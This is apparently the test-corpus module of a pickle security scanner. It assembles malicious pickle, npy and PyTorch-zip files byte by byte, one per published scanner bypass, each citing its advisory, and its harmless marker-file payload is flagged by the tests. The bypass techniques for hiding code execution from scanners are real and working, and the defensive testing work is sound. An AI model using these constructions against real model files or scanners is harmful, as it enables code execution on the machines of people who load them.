"""The scanner's test corpus, generated at run time (no binaries are committed).

Every malicious payload, if it were ever unpickled, would only create the marker file it is
given (a shell ``touch`` or Python ``open(marker, 'w')``); tests assert the marker never
appears. Payloads are assembled opcode by opcode, so no gadget module is imported to build
them. ``BYPASSES`` holds one entry per published scanner bypass, with its source.

Also used by ``benchmarks/scan.py`` (detections and false positives side by side with peers).
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

# -- a tiny pickle assembler -------------------------------------------------------------------

MARK, STOP, POP, TUPLE, REDUCE, BUILD = b"(", b".", b"0", b"t", b"R", b"b"
TUPLE1, TUPLE2, TUPLE3, EMPTY_TUPLE = b"\x85", b"\x86", b"\x87", b")"
EMPTY_DICT, EMPTY_LIST, SETITEM, SETITEMS, APPEND, APPENDS = b"}", b"]", b"s", b"u", b"a", b"e"
STACK_GLOBAL, MEMOIZE, NEWOBJ, NEWOBJ_EX, OBJ, DUP = b"\x93", b"\x94", b"\x81", b"\x92", b"o", b"2"
NONE, NEWTRUE, NEWFALSE = b"N", b"\x88", b"\x89"


def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def u(text: str) -> bytes:
    """SHORT_BINUNICODE (or BINUNICODE when long)."""
    data = text.encode("utf-8")
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def unicode0(text: str) -> bytes:
    return b"V" + text.encode("raw-unicode-escape") + b"\n"


def string0(text: str) -> bytes:
    return b"S" + repr(text).encode("ascii") + b"\n"


def by(data: bytes) -> bytes:
    return b"C" + bytes([len(data)]) + data if len(data) < 256 else b"B" + struct.pack("<I", len(data)) + data


def global0(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sglobal(module: str, name: str) -> bytes:
    return u(module) + u(name) + STACK_GLOBAL


def put(i: int) -> bytes:
    return b"p" + str(i).encode() + b"\n"


def get(i: int) -> bytes:
    return b"g" + str(i).encode() + b"\n"


def binput(i: int) -> bytes:
    return b"q" + bytes([i])


def binget(i: int) -> bytes:
    return b"h" + bytes([i])


def const(value: Any) -> bytes:
    """Opcodes that push a constant (protocol 2+ encodings)."""
    if value is None:
        return NONE
    if value is True:
        return NEWTRUE
    if value is False:
        return NEWFALSE
    if isinstance(value, int):
        return b"J" + struct.pack("<i", value)
    if isinstance(value, str):
        return u(value)
    if isinstance(value, bytes):
        return by(value)
    if isinstance(value, tuple):
        return MARK + b"".join(const(v) for v in value) + TUPLE
    if isinstance(value, list):
        return EMPTY_LIST + (MARK + b"".join(const(v) for v in value) + APPENDS if value else b"")
    if isinstance(value, dict):
        body = b"".join(const(k) + const(v) for k, v in value.items())
        return EMPTY_DICT + (MARK + body + SETITEMS if value else b"")
    raise TypeError(type(value))


def call(module: str, name: str, *args: Any, protocol: int = 4) -> bytes:
    """A whole pickle that calls ``module.name(*args)``."""
    head = proto(protocol) if protocol >= 2 else b""
    target = sglobal(module, name) if protocol >= 4 else global0(module, name)
    return head + target + const(tuple(args)) + REDUCE + STOP


def shell(marker: Path) -> str:
    return f"touch {marker}"


def py(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


# -- containers ----------------------------------------------------------------------------------


def torch_zip(data_pkl: bytes, *, prefix: str = "archive", extra: dict[str, bytes] | None = None) -> bytes:
    """A PyTorch-style zip around ``data_pkl`` (stored members, like torch.save writes)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr(f"{prefix}/data.pkl", data_pkl)
        zf.writestr(f"{prefix}/byteorder", b"little")
        zf.writestr(f"{prefix}/version", b"3\n")
        for name, value in (extra or {}).items():
            zf.writestr(name, value)
    return buf.getvalue()


def zip_of(members: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, value in members.items():
            zf.writestr(name, value)
    return buf.getvalue()


def set_zip_flag_encrypted(data: bytes) -> bytes:
    """Set general-purpose bit 0 (encrypted) in every local and central header."""
    out = bytearray(data)
    for sig, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (i := out.find(sig, start)) >= 0:
            out[i + flag_at] |= 0x01
            start = i + 4
    return bytes(out)


def npy_object(pickle_bytes: bytes) -> bytes:
    """A .npy file whose object-array data is ``pickle_bytes`` (np.save writes exactly this)."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    pad = 64 - (10 + len(header) + 1) % 64
    text = (header + " " * pad + "\n").encode("latin1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + pickle_bytes


# -- the published bypasses ----------------------------------------------------------------------


@dataclass(frozen=True)
class Payload:
    """A malicious file: ``build(marker)`` returns its bytes; scanning must flag ``expect``."""

    name: str
    source: str
    build: Callable[[Path], bytes]
    expect: str  # an import (module.name) or a finding code that must be reported
    suffix: str = ".pkl"


def _memo_put_memoize_confusion(m: Path) -> bytes:
    # PUT/BINPUT and MEMOIZE mixed: a scanner that numbers memo slots by MEMOIZE alone thinks
    # slots 0 and 1 hold 'torch._utils' / '_rebuild_tensor_v2'.
    return (
        proto(4)
        + u("os")
        + binput(0)
        + u("system")
        + binput(1)
        + u("torch._utils")
        + MEMOIZE
        + u("_rebuild_tensor_v2")
        + MEMOIZE
        + POP
        + POP
        + POP
        + POP
        + binget(0)
        + binget(1)
        + STACK_GLOBAL
        + u(shell(m))
        + TUPLE1
        + REDUCE
        + STOP
    )


def _ctf_safe_pickle(m: Path) -> bytes:
    return (
        unicode0("os")
        + put(2)
        + POP
        + unicode0("system")
        + put(3)
        + POP
        + unicode0("torch")
        + put(0)
        + POP
        + unicode0("LongStorage")
        + put(1)
        + POP
        + get(2)
        + get(3)
        + STACK_GLOBAL
        + MARK
        + unicode0(shell(m))
        + TUPLE
        + REDUCE
        + STOP
    )


def _string_stack_global(m: Path) -> bytes:
    return string0("os") + string0("system") + STACK_GLOBAL + string0(shell(m)) + TUPLE1 + REDUCE + STOP


def _memo_keyerror(m: Path) -> bytes:
    return (
        proto(4)
        + global0("os", "system")
        + unicode0(shell(m))
        + TUPLE1
        + REDUCE
        + POP
        + u("os")
        + MEMOIZE
        + binget(3)  # never written: a scanner that crashes here reports nothing
        + binget(0)
        + STACK_GLOBAL
        + b"K\x42"
        + STOP
    )


def _memo_type_confusion(m: Path) -> bytes:
    return (
        proto(4)
        + global0("os", "system")
        + unicode0(shell(m))
        + TUPLE1
        + REDUCE
        + POP
        + b"J\x2a\x00\x00\x00"
        + MEMOIZE
        + u("os")
        + MEMOIZE
        + binget(0)
        + binget(1)
        + STACK_GLOBAL
        + b"K\x42"
        + STOP
    )


def _sour_pickle(m: Path) -> bytes:
    # Slaviero, "Sour Pickles" (Black Hat USA 2011): globals/compile/eval/getattr chain, protocol 0.
    code = py(m)
    return (
        b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S"
        + repr(code).encode()
        + b"\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n."
    )


def _inst_exec(m: Path) -> bytes:
    return b"(S" + repr(py(m)).encode() + b"\ni__builtin__\nexec\n."


def _obj_pty(m: Path) -> bytes:
    return MARK + global0("pty", "spawn") + string0(f"/bin/sh -c 'touch {m}'") + OBJ + STOP


def _pty_build(m: Path) -> bytes:
    return (
        proto(4)
        + sglobal("pty", "spawn")
        + MEMOIZE
        + u(shell(m))
        + TUPLE1
        + REDUCE
        + u("gottem")
        + BUILD
        + STOP
    )


def _concatenated(m: Path) -> bytes:
    return pickle.dumps(["a", "b", "c"]) + call("os", "system", shell(m))


def _numpy_prod_build(m: Path) -> bytes:
    # BUILD's slot state sets attributes on numpy.prod, then GLOBAL 'numpy' 'prod.a' reads them.
    return (
        proto(5)
        + global0("numpy", "prod")
        + NONE
        + MARK
        + unicode0("a")
        + unicode0("os")
        + b"d"
        + TUPLE2
        + BUILD
        + NONE
        + MARK
        + unicode0("b")
        + unicode0("system")
        + b"d"
        + TUPLE2
        + BUILD
        + POP
        + global0("numpy", "prod.a")
        + put(0)
        + global0("numpy", "prod.b")
        + put(1)
        + POP
        + POP
        + get(0)
        + get(1)
        + STACK_GLOBAL
        + unicode0(shell(m))
        + TUPLE1
        + REDUCE
        + STOP
    )


def _numpy_builtins_build(m: Path) -> bytes:
    # numpy.size gets numpy.__builtins__ as its 'shape' attribute via BUILD, then eval is reached.
    return (
        proto(4)
        + sglobal("numpy", "size")
        + MEMOIZE
        + MEMOIZE
        + sglobal("numpy", "__builtins__")
        + MEMOIZE
        + MEMOIZE
        + binget(1)
        + EMPTY_DICT
        + EMPTY_DICT
        + u("shape")
        + binget(3)
        + SETITEM
        + TUPLE2
        + BUILD
        + binget(1)
        + binget(1)
        + u("eval")
        + TUPLE2
        + REDUCE
        + u(f"__import__('os').system({shell(m)!r})")
        + TUPLE1
        + REDUCE
        + STOP
    )


def _importlib_getattr(m: Path) -> bytes:
    return (
        proto(5)
        + sglobal("builtins", "getattr")
        + MEMOIZE
        + sglobal("importlib", "import_module")
        + u("os")
        + TUPLE1
        + REDUCE
        + u("system")
        + TUPLE2
        + REDUCE
        + u(shell(m))
        + TUPLE1
        + REDUCE
        + STOP
    )


def _builtins_import_getattr(m: Path) -> bytes:
    return (
        global0("builtins", "__import__")
        + string0("os")
        + TUPLE1
        + REDUCE
        + put(0)
        + POP
        + global0("builtins", "getattr")
        + get(0)
        + string0("system")
        + TUPLE2
        + REDUCE
        + put(1)
        + POP
        + get(1)
        + string0(shell(m))
        + TUPLE1
        + REDUCE
        + STOP
    )


def _c_operator_attrgetter(m: Path) -> bytes:
    # _operator.attrgetter('system')(builtins.__import__('os'))(cmd): the C module's name, which
    # a blocklist of operator.* does not match.
    return (
        proto(4)
        + sglobal("_operator", "attrgetter")
        + u("system")
        + TUPLE1
        + REDUCE
        + sglobal("builtins", "__import__")
        + u("os")
        + TUPLE1
        + REDUCE
        + TUPLE1
        + REDUCE
        + u(shell(m))
        + TUPLE1
        + REDUCE
        + STOP
    )


def _c_operator_methodcaller(m: Path) -> bytes:
    # _operator.methodcaller('system', cmd)(builtins.__import__('os'))
    return (
        proto(4)
        + sglobal("_operator", "methodcaller")
        + u("system")
        + u(shell(m))
        + TUPLE2
        + REDUCE
        + sglobal("builtins", "__import__")
        + u("os")
        + TUPLE1
        + REDUCE
        + TUPLE1
        + REDUCE
        + STOP
    )


def _obj_then_pop(m: Path) -> bytes:
    # OBJ(smtplib.SMTP, host) whose result is popped: the call runs at load, and a scanner that
    # keeps only calls whose results are used loses it (fickling's test for GHSA-mxhj-88fx-4pcv).
    return proto(4) + MARK + sglobal("smtplib", "SMTP") + u("127.0.0.1") + OBJ + POP + NONE + STOP


def _reduce_then_build(m: Path) -> bytes:
    # A stdlib call (a listening socket server) followed by BUILD, so its result is "used" by a
    # __setstate__ that a scanner trusting stdlib imports does not analyse.
    return (
        proto(4)
        + sglobal("socketserver", "TCPServer")
        + const((("127.0.0.1", 0), None))
        + REDUCE
        + EMPTY_DICT
        + BUILD
        + STOP
    )


def _scanner_deactivation(m: Path) -> bytes:
    # fickling's load-time hook removed first, then the payload that hook would have stopped.
    return (
        proto(4)
        + sglobal("fickling.hook", "deactivate_safe_ml_environment")
        + EMPTY_TUPLE
        + REDUCE
        + POP
        + sglobal("os", "system")
        + u(shell(m))
        + TUPLE1
        + REDUCE
        + STOP
    )


def _methodcaller_locate(m: Path) -> bytes:
    # operator.methodcaller('system', cmd)(pydoc.locate('os'))
    return (
        proto(4)
        + sglobal("operator", "methodcaller")
        + u("system")
        + u(shell(m))
        + TUPLE2
        + REDUCE
        + sglobal("pydoc", "locate")
        + u("os")
        + TUPLE1
        + REDUCE
        + TUPLE1
        + REDUCE
        + STOP
    )


def _marshal_functiontype(m: Path) -> bytes:
    import marshal

    code = marshal.dumps(compile(py(m), "<payload>", "exec"))
    return (
        proto(4)
        + sglobal("marshal", "loads")
        + by(code)
        + TUPLE1
        + REDUCE
        + MEMOIZE
        + sglobal("types", "FunctionType")
        + binget(0)
        + EMPTY_DICT
        + TUPLE2
        + REDUCE
        + EMPTY_TUPLE
        + REDUCE
        + STOP
    )


def _ctypes_getattr(m: Path) -> bytes:
    return (
        proto(5)
        + sglobal("builtins", "getattr")
        + sglobal("ctypes", "CDLL")
        + NONE
        + TUPLE1
        + REDUCE
        + u("system")
        + TUPLE2
        + REDUCE
        + by(shell(m).encode())
        + TUPLE1
        + REDUCE
        + STOP
    )


def _code_interpreter(m: Path) -> bytes:
    return (
        proto(5)
        + sglobal("builtins", "getattr")
        + sglobal("code", "InteractiveInterpreter")
        + EMPTY_TUPLE
        + REDUCE
        + u("runsource")
        + TUPLE2
        + REDUCE
        + u(py(m))
        + TUPLE1
        + REDUCE
        + STOP
    )


def _interpreters_build(m: Path) -> bytes:
    # _interpreters.create() then run_string through a BUILD-reached __setstate__-free chain.
    return (
        proto(4)
        + sglobal("_interpreters", "run_string")
        + sglobal("_interpreters", "create")
        + EMPTY_TUPLE
        + REDUCE
        + u(py(m))
        + TUPLE2
        + REDUCE
        + EMPTY_DICT
        + BUILD
        + STOP
    )


def _nested_pickle_loads(m: Path) -> bytes:
    inner = call("os", "system", shell(m), protocol=2)
    return proto(4) + sglobal("pickle", "loads") + by(inner) + TUPLE1 + REDUCE + STOP


def _partial_torch_load(m: Path) -> bytes:
    return (
        proto(4)
        + sglobal("functools", "partial")
        + sglobal("torch", "load")
        + u(str(m.with_suffix(".other.pt")))
        + TUPLE2
        + EMPTY_DICT
        + MARK
        + u("weights_only")
        + NEWFALSE
        + SETITEMS
        + NEWOBJ_EX
        + EMPTY_TUPLE
        + REDUCE
        + STOP
    )


def _resolve_name(m: Path) -> bytes:
    return (
        proto(4)
        + sglobal("pkgutil", "resolve_name")
        + u("os:system")
        + TUPLE1
        + REDUCE
        + u(shell(m))
        + TUPLE1
        + REDUCE
        + STOP
    )


def _dns_exfil_npy(m: Path) -> bytes:
    # picklescan test data: object array whose element resolves a hostname through ssl.
    inner = call("ssl", "get_server_certificate", (f"{m.name}.invalid", 443), protocol=3)
    return npy_object(inner)


def _zip_flag_bit(m: Path) -> bytes:
    return set_zip_flag_encrypted(torch_zip(call("os", "system", shell(m), protocol=2)))


def _zip_bad_crc(m: Path) -> bytes:
    data = torch_zip(call("builtins", "exec", py(m), protocol=2))
    return data.replace(b"close()", b"close( ", 1)  # bytes edited after the CRC was written


def _zip_central_directory_mismatch(m: Path) -> bytes:
    data = zip_of({"data.pkl": call("builtins", "eval", py(m))})
    return data.replace(b"data.pkl", b"datap.kl", 1)


def _zip_nonstandard_name(m: Path) -> bytes:
    return zip_of({"data.txt": call("builtins", "eval", py(m))})


def _fn(
    module: str, name: str, *args_of: Callable[[Path], Any], protocol: int = 4
) -> Callable[[Path], bytes]:
    def build(m: Path) -> bytes:
        return call(module, name, *(a(m) for a in args_of), protocol=protocol)

    return build


def _lit(value: Any) -> Callable[[Path], Any]:
    return lambda m: value


# -- FRAME divergence (python/cpython#154848, trailofbits/fickling#317) -------------------------
# CPython's C unpickler reading a file object without peek() (torch.load's io.BytesIO) drops the
# rest of a frame when an opcode runs past its end and reads afresh after it; a flat reader such
# as pickletools.genops reads on. Each payload below is a plain bytes or str constant to a flat
# reader and an os.system call to torch.load.


def _frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


def _hidden_call(m: Path) -> bytes:
    return sglobal("os", "system") + u(shell(m)) + TUPLE1 + REDUCE


def _frame_binbytes_length_straddle(m: Path) -> bytes:
    # The frame ends two bytes into BINBYTES' 4-byte length. Flat: the length spans the boundary
    # and the data swallows the call. C: the length is the four zero bytes after the frame, the
    # data is empty, and the call runs.
    hidden = _hidden_call(m)
    return proto(4) + _frame(b"B" + struct.pack("<H", 2 + len(hidden))) + b"\0\0\0\0" + hidden + STOP


def _frame_binunicode_data_straddle(m: Path) -> bytes:
    # The frame ends five bytes into BINUNICODE's 6-byte data. Flat: the str takes one byte after
    # the frame, then BINBYTES swallows the call. C: the 6 bytes are read after the frame (the
    # BINBYTES header becomes text), and the call runs. The call is padded to a length whose
    # four bytes are ASCII, so that C decodes that text without error.
    call = _hidden_call(m)
    length = len(call) + 3
    while any(b >= 0x80 for b in struct.pack("<I", length)):
        length += 1
    pad = length - len(call) - 3
    hidden = b"C" + bytes([pad]) + b"\0" * pad + POP + call
    body = b"X" + struct.pack("<I", 6) + b"abcde"
    return proto(4) + _frame(body) + b"z" + b"B" + struct.pack("<I", len(hidden)) + hidden + TUPLE2 + STOP


def _frame_inside_frame(m: Path) -> bytes:
    # A FRAME opens before the current one is used up. C drops the rest of the first frame (a
    # SHORT_BINBYTES header) and reads the second, the call; flat, that header swallows the call.
    hidden = _hidden_call(m) + STOP
    inner = b"\x95" + struct.pack("<Q", len(hidden))
    return proto(4) + _frame(inner + b"C" + bytes([len(hidden) - 1])) + hidden


# -- tensor views outside their storage (pytorch/pytorch#183381, #184652) -------------------------


def _storage_pid(kind: str, key: str, numel: int) -> bytes:
    """BINPERSID of a torch.save storage reference: ('storage', torch.KIND, key, 'cpu', numel)."""
    return MARK + u("storage") + global0("torch", kind) + u(key) + u("cpu") + const(numel) + TUPLE + b"Q"


def _tensor_zip(rebuild: bytes, numel: int, kind: str = "FloatStorage", width: int = 4) -> bytes:
    data = proto(2) + EMPTY_DICT + u("w") + rebuild + SETITEM + STOP
    return torch_zip(data, extra={"archive/data/0": b"\0" * (numel * width)})


def _tensor_offset_out_of_bounds(m: Path) -> bytes:
    # 12 floats, a 3x4 view starting at element 40: the C++ unpickler did not check the offset.
    args = _storage_pid("FloatStorage", "0", 12) + const(40) + const((3, 4)) + const((4, 1))
    call_ = global0("torch._utils", "_rebuild_tensor_v2") + MARK + args + NEWFALSE + EMPTY_DICT
    return _tensor_zip(call_ + TUPLE + REDUCE, 12)


def _qtensor_stride_out_of_bounds(m: Path) -> bytes:
    # A quantized 3x4 tensor over 12 bytes whose row stride reaches far past them: dequantize()
    # reads process memory (weights_only=True returned it unchecked).
    args = _storage_pid("QUInt8Storage", "0", 12) + const(0) + const((3, 4)) + const((1 << 20, 1))
    qparams = MARK + global0("torch", "per_tensor_affine") + b"G" + struct.pack(">d", 0.1) + const(0) + TUPLE
    call_ = global0("torch._utils", "_rebuild_qtensor") + MARK + args + qparams + NEWFALSE + EMPTY_DICT
    return _tensor_zip(call_ + TUPLE + REDUCE, 12, "QUInt8Storage", 1)


def _setitem_on_tensor(m: Path) -> bytes:
    # SETITEM on a rebuilt tensor calls Tensor.__setitem__: a write the scanner must not wave
    # through because the tensor's constructor is allowlisted.
    args = _storage_pid("FloatStorage", "0", 4) + const(0) + const((4,)) + const((1,))
    tensor = (
        global0("torch._utils", "_rebuild_tensor_v2") + MARK + args + NEWFALSE + EMPTY_DICT + TUPLE + REDUCE
    )
    data = proto(2) + tensor + const(0) + const(1) + SETITEM + STOP
    return torch_zip(data, extra={"archive/data/0": b"\0" * 16})


_SH, _PY = shell, py
_GH_PS = "https://github.com/mmaitre314/picklescan/security/advisories/"
_GH_FK = "https://github.com/trailofbits/fickling/security/advisories/"
_PS_DATA = "https://github.com/mmaitre314/picklescan/blob/main/tests/init_data_files.py"

BYPASSES: list[Payload] = [
    # -- picklescan ----------------------------------------------------------------------------
    Payload(
        "picklescan_memo_put_memoize_confusion",
        "https://github.com/mmaitre314/picklescan/issues/14",
        _memo_put_memoize_confusion,
        "os.system",
    ),
    Payload(
        "picklescan_ctf_safe_pickle_memo",
        "https://github.com/mmaitre314/picklescan/issues/22",
        _ctf_safe_pickle,
        "os.system",
    ),
    Payload(
        "picklescan_string_opcode_stack_global",
        _GH_PS + "GHSA-9gvj-pp9x-gcfr",
        _string_stack_global,
        "os.system",
    ),
    Payload(
        "picklescan_memo_keyerror_crash", _PS_DATA + " (keyerror-exploit.pkl)", _memo_keyerror, "os.system"
    ),
    Payload(
        "picklescan_memo_type_confusion",
        _PS_DATA + " (type-confusion-exploit.pkl)",
        _memo_type_confusion,
        "os.system",
    ),
    Payload("picklescan_concatenated_pickles", _PS_DATA + " (malicious6.pkl)", _concatenated, "os.system"),
    Payload("picklescan_inst_exec", _PS_DATA + " (malicious10.pkl)", _inst_exec, "builtins.exec"),
    Payload(
        "picklescan_sour_pickle_globals_compile_eval",
        _PS_DATA + " (malicious0.pkl, Slaviero BH US 2011)",
        _sour_pickle,
        "builtins.eval",
    ),
    Payload(
        "picklescan_pip_main_cve_2025_1716",
        "https://osv.dev/vulnerability/CVE-2025-1716",
        _fn("pip", "main", lambda m: ["--log", str(m), "--version"]),
        "pip.main",
    ),
    Payload(
        "picklescan_asyncio_subprocess_cve_2025_10157",
        _GH_PS + "GHSA-q77w-mwjj-7mqx",
        _fn(
            "asyncio.unix_events",
            "_UnixSubprocessTransport._start",
            _lit({}),
            _SH,
            _lit(True),
            _lit(None),
            _lit(None),
            _lit(None),
            _lit(0),
        ),
        "asyncio.unix_events._UnixSubprocessTransport._start",
    ),
    Payload(
        "picklescan_torch_bottleneck_run_cprofile",
        _GH_PS + "GHSA-4r9r-ch6f-vxmx",
        _fn("torch.utils.bottleneck.__main__", "run_cprofile", _PY, _lit({})),
        "torch.utils.bottleneck.__main__.run_cprofile",
    ),
    Payload(
        "picklescan_torch_dynamo_guardbuilder_get",
        _GH_PS + "GHSA-86cj-95qr-2p4f",
        _fn("torch._dynamo.guards", "GuardBuilder.get", _lit({}), _PY),
        "torch._dynamo.guards.GuardBuilder.get",
    ),
    Payload(
        "picklescan_torch_fx_evaluate_guards_expression",
        _GH_PS + "GHSA-f4x7-rfwp-v3xw",
        _fn(
            "torch.fx.experimental.symbolic_shapes",
            "ShapeEnv.evaluate_guards_expression",
            _lit({}),
            _PY,
            _lit([]),
        ),
        "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression",
    ),
    Payload(
        "picklescan_torch_collect_env_run",
        _GH_PS + "GHSA-f745-w6jp-hpxx",
        _fn("torch.utils.collect_env", "run", _SH),
        "torch.utils.collect_env.run",
    ),
    Payload(
        "picklescan_torch_datapipes_basichandlers",
        _GH_PS + "GHSA-h3qp-7fh3-f8h4",
        _fn(
            "torch.utils.data.datapipes.utils.decoder",
            "basichandlers",
            _lit("pickle"),
            lambda m: call("os", "system", shell(m)),
        ),
        "torch.utils.data.datapipes.utils.decoder.basichandlers",
    ),
    Payload(
        "picklescan_torch_jit_execwrapper",
        _GH_PS + "GHSA-vr7h-p6mm-wpmh",
        _fn("torch.jit.unsupported_tensor_ops", "execWrapper", _PY, _lit({}), _lit({})),
        "torch.jit.unsupported_tensor_ops.execWrapper",
    ),
    Payload(
        "picklescan_torch_config_module_load_config",
        _GH_PS + "GHSA-vv6j-3g6g-2pvj",
        _fn(
            "torch.utils._config_module",
            "ConfigModule.load_config",
            _lit({}),
            lambda m: call("os", "system", shell(m)),
        ),
        "torch.utils._config_module.ConfigModule.load_config",
    ),
    Payload(
        "picklescan_torch_inductor_compile_file",
        _PS_DATA + " (malicious17.pkl)",
        _fn(
            "torch._inductor.codecache", "compile_file", _lit(""), _lit(""), lambda m: ["sh", "-c", shell(m)]
        ),
        "torch._inductor.codecache.compile_file",
    ),
    Payload(
        "picklescan_trace_run",
        _GH_PS + "GHSA-5qwp-399c-mjwf",
        _fn("trace", "Trace.run", _lit({}), _PY),
        "trace.Trace.run",
    ),
    Payload(
        "picklescan_profile_run",
        _GH_PS + "GHSA-x696-vm39-cp64",
        _fn("profile", "Profile.run", _lit({}), _PY),
        "profile.Profile.run",
    ),
    Payload(
        "picklescan_cprofile_runctx",
        _GH_PS + "GHSA-9w88-8rmg-7g2p",
        _fn("cProfile", "runctx", _PY, _lit(None), _lit(None)),
        "cProfile.runctx",
    ),
    Payload(
        "picklescan_code_interpreter_runcode",
        _GH_PS + "GHSA-cj3c-v495-4xqh",
        _fn("code", "InteractiveInterpreter.runcode", _lit({}), _PY),
        "code.InteractiveInterpreter.runcode",
    ),
    Payload(
        "picklescan_doctest_debug_script",
        _GH_PS + "GHSA-fqq6-7vqf-w3fg",
        _fn("doctest", "debug_script", _PY, _lit(True)),
        "doctest.debug_script",
    ),
    Payload(
        "picklescan_idlelib_calltip_get_entity",
        _GH_PS + "GHSA-9xph-j2h6-g47v",
        _fn("idlelib.calltip", "get_entity", _PY),
        "idlelib.calltip.get_entity",
    ),
    Payload(
        "picklescan_lib2to3_grammar_loads",
        _GH_PS + "GHSA-f54q-57x4-jg88",
        _fn("lib2to3.pgen2.grammar", "Grammar.loads", _lit({}), lambda m: call("os", "system", shell(m))),
        "lib2to3.pgen2.grammar.Grammar.loads",
    ),
    Payload(
        "picklescan_ensurepip_run_pip",
        _GH_PS + "GHSA-xp4f-hrf8-rxw7",
        _fn("ensurepip", "_run_pip", _PY),
        "ensurepip._run_pip",
    ),
    Payload(
        "picklescan_distutils_write_file",
        _GH_PS + "GHSA-m273-6v24-x4m4",
        _fn("distutils.file_util", "write_file", lambda m: str(m), _lit(["x"])),
        "distutils.file_util.write_file",
    ),
    Payload(
        "picklescan_ctypes_cdll",
        _GH_PS + "GHSA-4675-36f9-wf6r",
        _fn("ctypes", "CDLL", _lit(None)),
        "ctypes.CDLL",
    ),
    Payload(
        "picklescan_pydoc_locate_methodcaller",
        _GH_PS + "GHSA-84r2-jw7c-4r5q",
        _methodcaller_locate,
        "operator.methodcaller",
    ),
    Payload(
        "picklescan_pty_spawn",
        _GH_PS + "GHSA-vqmv-47xg-9wpr",
        _fn("pty", "spawn", lambda m: ["/bin/sh", "-c", shell(m)]),
        "pty.spawn",
    ),
    Payload(
        "picklescan_numpy_f2py_getlincoef",
        _GH_PS + "GHSA-r8g5-cgf2-4m4m",
        _fn("numpy.f2py.crackfortran", "getlincoef", _PY, _lit([])),
        "numpy.f2py.crackfortran.getlincoef",
    ),
    Payload(
        "picklescan_io_fileio",
        _PS_DATA + " (io_FileIO.pkl)",
        _fn("io", "FileIO", lambda m: str(m), _lit("w")),
        "io.FileIO",
    ),
    Payload(
        "picklescan_urllib_urlopen",
        _PS_DATA + " (urllib_request_urlopen.pkl)",
        _fn("urllib.request", "urlopen", lambda m: f"file://{m}"),
        "urllib.request.urlopen",
    ),
    Payload(
        "picklescan_runpy_run_code",
        _PS_DATA + " (malicious14.pkl)",
        _fn("runpy", "_run_code", _PY, _lit({})),
        "runpy._run_code",
    ),
    Payload(
        "picklescan_bdb_run",
        _PS_DATA + " (malicious15.pkl)",
        _fn("bdb", "Bdb.run", _lit({}), _PY),
        "bdb.Bdb.run",
    ),
    Payload(
        "picklescan_pydoc_pipepager",
        _PS_DATA + " (malicious18.pkl)",
        _fn("pydoc", "pipepager", _lit(""), _SH),
        "pydoc.pipepager",
    ),
    Payload(
        "picklescan_partial_torch_load",
        _PS_DATA + " (malicious19.pkl)",
        _partial_torch_load,
        "functools.partial",
    ),
    Payload(
        "picklescan_venv_create",
        _PS_DATA + " (malicious20.pkl)",
        _fn("venv", "create", lambda m: str(m), _lit(False), _lit(False), _lit(True)),
        "venv.create",
    ),
    Payload(
        "picklescan_timeit",
        _PS_DATA + " (malicious21.pkl)",
        _fn("timeit", "timeit", _lit(""), _PY),
        "timeit.timeit",
    ),
    Payload(
        "picklescan_numpy_testing_runstring",
        _PS_DATA + " (malicious22.pkl)",
        _fn("numpy.testing._private.utils", "runstring", _PY, _lit({})),
        "numpy.testing._private.utils.runstring",
    ),
    Payload(
        "picklescan_logging_filehandler_cve_2026_56304",
        "https://aithreatalert.com/cve/CVE-2026-56304",
        _fn("logging", "FileHandler", lambda m: str(m)),
        "logging.FileHandler",
    ),
    Payload(
        "picklescan_uuid_get_command_stdout_cve_2026_56315",
        "https://aithreatalert.com/cve/CVE-2026-56315",
        _fn("uuid", "_get_command_stdout", _lit("touch"), lambda m: str(m)),
        "uuid._get_command_stdout",
    ),
    Payload(
        "picklescan_imaplib_imap4_stream_cve_2026_56315",
        "https://aithreatalert.com/cve/CVE-2026-56315",
        _fn("imaplib", "IMAP4_stream", _SH),
        "imaplib.IMAP4_stream",
    ),
    Payload(
        "picklescan_osx_support_read_output_cve_2026_56315",
        "https://aithreatalert.com/cve/CVE-2026-56315",
        _fn("_osx_support", "_read_output", _SH),
        "_osx_support._read_output",
    ),
    Payload(
        "picklescan_pkgutil_resolve_name",
        _GH_PS + "GHSA-vvpj-8cmc-gx39 (issue #66)",
        _resolve_name,
        "pkgutil.resolve_name",
    ),
    Payload(
        "picklescan_dns_exfiltration_object_npy",
        _PS_DATA + " (dns_exfiltration.npy)",
        _dns_exfil_npy,
        "ssl.get_server_certificate",
        ".npy",
    ),
    Payload(
        "picklescan_zip_flag_bit_ghsa_w8jq", _GH_PS + "GHSA-w8jq-xcqf-f792", _zip_flag_bit, "os.system", ".pt"
    ),
    Payload(
        "picklescan_zip_bad_crc_cve_2025_10156",
        _GH_PS + "GHSA-7q5r-7gvp-wc82 / CVE-2025-10156",
        _zip_bad_crc,
        "builtins.exec",
        ".pt",
    ),
    Payload(
        "picklescan_zip_central_directory_mismatch",
        _PS_DATA + " (malicious1_central_directory.zip)",
        _zip_central_directory_mismatch,
        "builtins.eval",  # read by its central-directory name, as PyTorch's reader does
        ".zip",
    ),
    Payload(
        "picklescan_nonstandard_member_name_ghsa_769v",
        _GH_PS + "GHSA-769v-p64c-89pr",
        _zip_nonstandard_name,
        "builtins.eval",
        ".zip",
    ),
    Payload(
        "picklescan_extension_spoof_cve_2025_10155",
